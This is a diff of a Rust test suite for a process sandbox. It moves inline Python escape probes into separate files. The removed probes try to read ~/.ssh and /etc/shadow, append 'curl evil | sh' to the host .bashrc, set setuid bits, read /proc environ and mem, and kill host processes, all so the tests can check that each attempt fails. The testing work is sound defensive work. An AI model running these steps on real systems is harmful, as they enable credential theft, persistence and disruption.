@@ -26,11 +26,7 @@ use support::isolation::*;
 // Files
 
 /// After the canary-file probe: listings of the host HOME and a root-only file.
-const LISTINGS_AND_SHADOW: &str = r#"
-attempt("ls_host_home", lambda: ",".join(sorted(os.listdir(A["host_home"]))))
-attempt("ls_ssh", lambda: ",".join(sorted(os.listdir(os.path.join(A["host_home"], ".ssh")))))
-attempt("etc_shadow", lambda: read_head("/etc/shadow", 1) and "readable")
-"#;
+const LISTINGS_AND_SHADOW: &str = include_str!("probes/fallback_threats/listings_and_shadow.py");
 
 #[test]
 fn home_canary_files_are_unreadable() {
@@ -58,9 +54,7 @@ fn home_canary_files_are_unreadable() {
 }
 
 /// After the inputs probe: appending to the input.
-const APPEND_INPUT: &str = r#"
-attempt("append_input", lambda: open(A["input"], "a").close())
-"#;
+const APPEND_INPUT: &str = include_str!("probes/fallback_threats/append_input.py");
 
 #[test]
 fn only_the_named_input_is_readable_and_it_stays_read_only() {
@@ -83,10 +77,7 @@ fn only_the_named_input_is_readable_and_it_stays_read_only() {
 }
 
 /// After the project probe: truncating and removing files.
-const TRUNCATE_AND_UNLINK: &str = r#"
-attempt("truncate", os.truncate, existing, 0)
-attempt("unlink", os.unlink, os.path.join(p, "keep.txt"))
-"#;
+const TRUNCATE_AND_UNLINK: &str = include_str!("probes/fallback_threats/truncate_and_unlink.py");
 
 #[test]
 fn project_dir_is_read_only() {
@@ -140,45 +131,7 @@ fn project_dir_is_read_only() {
     });
 }
 
-const WRITES: &str = r##"
-def create(d, name):
-    path = os.path.join(d, name)
-    with open(path, "w") as f:
-        f.write("written by the probe " + A["nonce"])
-for k, d in A["dirs"].items():
-    attempt("create:" + k, create, d, "probe-" + A["nonce"])
-def via_link():
-    with open(A["link"], "w") as f:
-        f.write("through the link")
-attempt("write_via_link_in_out_live", via_link)
-attempt("read_via_link_in_out_live", read_head, A["link"])
-# Pull a file from outside the grants into the writable directory, then read it there.
-def pull(how, src, name):
-    dst = os.path.join(A["dirs"]["out_live"], name)
-    how(src, dst)
-    return read_head(dst)
-attempt("hard_link_in", pull, os.link, A["key"], "key-link")
-attempt("rename_in", pull, os.rename, A["movable"], "moved")
-def append_host_bashrc():
-    with open(os.path.join(A["host_home"], ".bashrc"), "a") as f:
-        f.write("curl evil | sh # " + A["nonce"] + "\n")
-attempt("append_host_bashrc", append_host_bashrc)
-attempt("mkdir_host_systemd_user", os.makedirs, os.path.join(A["host_home"], ".config/systemd/user"))
-attempt("host_tmp", create, "/tmp", "seal-fb-" + A["nonce"])
-rc = os.path.expanduser("~/.bashrc")
-put("private_home", os.path.expanduser("~"))
-put("private_tmp", os.environ.get("TMPDIR", "unset"))
-def append_private():
-    with open(rc, "a") as f:
-        f.write("persisted-" + A["nonce"] + "\n")
-    return read_head(rc)
-attempt("append_private_bashrc", append_private)
-attempt("private_tmpdir", create, os.environ.get("TMPDIR", "/nonexistent"), "scratch")
-# Private from other local users too (they live in the host's /tmp).
-for k, path in [("home", os.path.expanduser("~")), ("tmpdir", os.environ.get("TMPDIR", "/")),
-                ("scratch", os.path.dirname(os.path.expanduser("~")))]:
-    attempt("mode:" + k, lambda p=path: oct(os.stat(p).st_mode & 0o777))
-"##;
+const WRITES: &str = include_str!("probes/fallback_threats/writes.py");
 
 #[test]
 fn writes_outside_out_live_and_share_are_refused() {
@@ -310,17 +263,7 @@ fn writes_outside_out_live_and_share_are_refused() {
     });
 }
 
-const MODES: &str = r##"
-d = A["share"]
-def create_setuid():
-    path = os.path.join(d, "created-setuid")
-    os.close(os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o4755))
-attempt("create_setuid", create_setuid)
-f = os.path.join(d, "tool")
-attempt("chmod_setuid", os.chmod, f, 0o4755)
-attempt("chmod_setgid", os.chmod, f, 0o2755)
-attempt("chmod_world_writable", os.chmod, f, 0o757)
-"##;
+const MODES: &str = include_str!("probes/fallback_threats/modes.py");
 
 /// A set-id or world-writable file left in a writable host directory outlives the run
 /// (nosuid needs a mount, which the fallback has not got).
@@ -405,10 +348,7 @@ fn canary_env_vars_and_unlisted_variables_are_absent() {
 // ---------------------------------------------------------------------------------------------
 // Network: every sink on host loopback or a test-owned Unix socket
 
-const TCP_UDP: &str = r#"
-attempt("tcp", send_stream, socket.AF_INET, ("127.0.0.1", A["tcp_port"]))
-attempt("udp", udp_exchange, ("127.0.0.1", A["udp_port"]))
-"#;
+const TCP_UDP: &str = include_str!("probes/fallback_threats/tcp_udp.py");
 
 #[test]
 fn tcp_and_udp_to_host_loopback_sinks_are_refused() {
@@ -441,11 +381,7 @@ fn tcp_and_udp_to_host_loopback_sinks_are_refused() {
     });
 }
 
-const UNIX_SOCKETS: &str = r#"
-attempt("project_socket", send_stream, socket.AF_UNIX, A["project_socket"])
-attempt("outside_socket", send_stream, socket.AF_UNIX, A["outside_socket"])
-attempt("abstract", send_stream, socket.AF_UNIX, "\0" + A["abstract"])
-"#;
+const UNIX_SOCKETS: &str = include_str!("probes/fallback_threats/unix_sockets.py");
 
 /// A socket in the project (an ssh agent, an IDE, a dev server) is a door out of a read-only
 /// directory, since connect(2) ignores file permissions; an abstract socket (X11, D-Bus) is
@@ -489,20 +425,7 @@ fn path_unix_socket_in_the_project_and_abstract_socket_are_unreachable() {
 // ---------------------------------------------------------------------------------------------
 // Other processes: a test-owned sleeper with a secret in its environment
 
-const PROC_VIEW: &str = r#"
-pid = A["host_pid"]
-attempt("ls_proc", lambda: len(os.listdir("/proc")))
-def secret_in(name):
-    with open("/proc/%d/%s" % (pid, name), "rb") as f:
-        data = f.read()
-    return "canary" if b"CANARY-" in data or A["marker"].encode() in data else "clean"
-attempt("host_environ", secret_in, "environ")
-attempt("host_cmdline", secret_in, "cmdline")
-attempt("host_mem", lambda: os.close(os.open("/proc/%d/mem" % pid, os.O_RDONLY)))
-attempt("host_status", read_head, "/proc/%d/status" % pid)
-attempt("init_environ", read_head, "/proc/1/environ")
-attempt("self_environ", read_head, "/proc/self/environ")
-"#;
+const PROC_VIEW: &str = include_str!("probes/fallback_threats/proc_view.py");
 
 #[test]
 fn proc_of_host_processes_is_unreadable() {
@@ -538,39 +461,7 @@ fn proc_of_host_processes_is_unreadable() {
     });
 }
 
-const SIGNALS: &str = r#"
-import fcntl
-# SIGIO to the second sleeper through a pipe it "owns": its default action ends it.
-def sigio():
-    r, w = os.pipe()
-    fcntl.fcntl(r, fcntl.F_SETOWN, A["sigio_pid"])
-    fcntl.fcntl(r, fcntl.F_SETFL, fcntl.fcntl(r, fcntl.F_GETFL) | os.O_ASYNC)
-    os.write(w, b"x")
-attempt("sigio_host_sleeper", sigio)
-attempt("pidfd_kill_host_sleeper", lambda: signal.pidfd_send_signal(os.pidfd_open(A["host_pid"]), signal.SIGKILL))
-attempt("kill_host_sleeper", os.kill, A["host_pid"], signal.SIGKILL)
-attempt("probe_host_sleeper", os.kill, A["host_pid"], 0)
-# Signals within the sandbox still work.
-kid = os.fork()
-if kid == 0:
-    time.sleep(60)
-    os._exit(0)
-attempt("kill_own_child", os.kill, kid, signal.SIGKILL)
-os.waitpid(kid, 0)
-if A["inside"]:
-    # A process of the run that would outlive it (its command line, the probe's, carries the
-    # test's marker): whatever happens to the keeper, it must not survive the run.
-    if os.fork() == 0:
-        time.sleep(60)
-        os._exit(0)
-    # The keeper (the program's parent) kills every descendant when the program ends: the
-    # program must not be able to kill it first. Last, and the results so far printed first:
-    # where the kill succeeds seal kills this process too, at once.
-    emit()
-    _R.clear()
-    if attempt("kill_keeper", os.kill, os.getppid(), signal.SIGKILL) == "OK":
-        time.sleep(30)  # an orphan now, which seal kills
-"#;
+const SIGNALS: &str = include_str!("probes/fallback_threats/signals.py");
 
 /// Landlock ABI 6 scopes signals: the program cannot signal the user's other processes (two
 /// host sleepers) nor its keeper. Below ABI 6 it can (README, "Hosts without user namespaces",
@@ -790,22 +681,7 @@ fn fork_bomb_is_stopped_by_the_pids_limit() {
     });
 }
 
-const INHERITED_FDS: &str = r#"
-fd = A["fd"]
-def read_fd():
-    os.lseek(fd, 0, os.SEEK_SET)
-    return os.read(fd, 200).decode()
-attempt("inherited_fd", read_fd)
-leaks = []
-for n in range(3, 256):
-    try:
-        os.lseek(n, 0, os.SEEK_SET)
-        if b"CANARY-" in os.read(n, 4096):
-            leaks.append(str(n))
-    except OSError:
-        pass
-put("leaks", ",".join(leaks))
-"#;
+const INHERITED_FDS: &str = include_str!("probes/fallback_threats/inherited_fds.py");
 
 /// A descriptor the caller leaked to seal (here a canary file at fd 7, not close-on-exec) must
 /// not reach the program (runc CVE-2024-21626 was a leaked descriptor).
@@ -861,17 +737,7 @@ fn descriptors_inherited_by_seal_do_not_reach_the_program() {
 // Kernel-facing restrictions
 
 /// After [`probes::PRIVILEGES`] and [`probes::KEYCTL_IO_URING`].
-const KERNEL: &str = r#"
-import resource
-put_privileges()
-put("rlimit_core", "%d,%d" % resource.getrlimit(resource.RLIMIT_CORE))
-CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000
-def unshare(flags):
-    ctypes.set_errno(0)
-    return cres(LIBC.unshare(flags))
-# Net alone needs no user namespace as root: refused by seal's filter, not the wrapper's.
-put("unshare_newnet", in_child(lambda: unshare(CLONE_NEWNET)))
-"#;
+const KERNEL: &str = include_str!("probes/fallback_threats/kernel.py");
 
 #[test]
 fn no_capabilities_no_new_privs_and_the_seccomp_deny_list_hold() {
